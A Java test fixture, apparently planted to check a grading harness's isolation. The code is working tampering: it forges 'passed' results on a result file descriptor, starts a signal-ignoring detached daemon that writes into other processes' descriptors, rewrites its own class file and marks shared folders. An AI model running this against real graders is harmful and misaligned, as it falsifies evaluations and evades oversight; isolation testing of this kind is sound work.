package planted;

import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.ref.Cleaner;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

@SuppressWarnings("removal")
public final class Attack {
    private static final byte[] ANSWER = "{\"id\": 1, \"value\": 1234, \"outcome\": \"passed\"}\n".getBytes();
    /** Compiled in; only another test's edit of the class could have changed it. */
    private static final String WORD = "UNTOUCH";
    private static final String DAEMON = "trap '' TERM INT HUP; sleep 0.3; while :; do for p in /proc/[0-9]*/fd/201; do"
            + " echo '{\"id\": 1, \"value\": 1234}' > $p; done; sleep 0.05; done";

    @Override
    protected void finalize() {
        write();
    }

    public static void go() {
        if (!WORD.equals("UNT" + "OUCH".toString().strip())) {
            System.out.println(WORD);
        }
        long own = ProcessHandle.current().pid();
        ProcessHandle.allProcesses().filter(each -> each.pid() != 1 && each.pid() != own)
                .forEach(each -> System.out.println("REACHED an earlier test's process: " + each.info().commandLine()));
        try {
            for (String folder : List.of("/tmp", "/dev/shm", "/submission", "/build", "/build/classes",
                    "/build/classes/planted", "/channel")) {
                leave(Path.of(folder));
            }
            Path file = Path.of("/build/classes/planted/Attack.class");
            String code = Files.readString(file, StandardCharsets.ISO_8859_1);
            file.toFile().setWritable(true);
            Files.writeString(file, code.replace("UNT" + "OUCH", "REA" + "CHED"), StandardCharsets.ISO_8859_1);
            new ProcessBuilder("setsid", "sh", "-c", DAEMON).inheritIO().start();
            new ProcessBuilder("sleep", "600").inheritIO().start();
        } catch (IOException refused) {
            System.out.println(refused);
        }
        System.out.flush();
    }

    public static void late() {
        new Attack();
        Cleaner.create().register(new Object(), Attack::write);
        System.gc();
        Runtime.getRuntime().addShutdownHook(new Thread(Attack::edit));
        new Thread(Attack::edit).start();
        System.out.flush();
    }

    private static void leave(Path folder) {
        Path mark = folder.resolve("mark-of-an-earlier-test");
        if (Files.exists(mark)) {
            System.out.println("REACHED what an earlier test left in " + folder);
        }
        folder.toFile().setWritable(true);
        try (Stream<Path> beside = Files.list(folder)) {
            Files.createFile(mark);
            System.out.println(folder + " had " + beside.count());
        } catch (IOException refused) {
            System.out.println(refused);
        }
    }

    private static void edit() {
        while (true) {
            write();
            Thread.onSpinWait();
        }
    }

    private static void write() {
        try (FileOutputStream replies = new FileOutputStream("/proc/self/fd/201")) {
            replies.write(ANSWER);
            Thread.sleep(5);
        } catch (IOException | InterruptedException refused) {
            return;
        }
    }
}
